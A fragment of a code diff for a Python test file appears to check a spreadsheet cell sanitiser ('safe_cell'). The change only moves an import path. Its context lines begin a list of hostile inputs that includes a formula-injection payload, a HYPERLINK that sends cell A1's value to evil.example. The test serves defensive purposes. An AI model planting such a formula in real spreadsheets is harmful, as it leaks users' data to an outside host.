@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from services.registration.listings import safe_cell
+from kit.spreadsheet import safe_cell
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
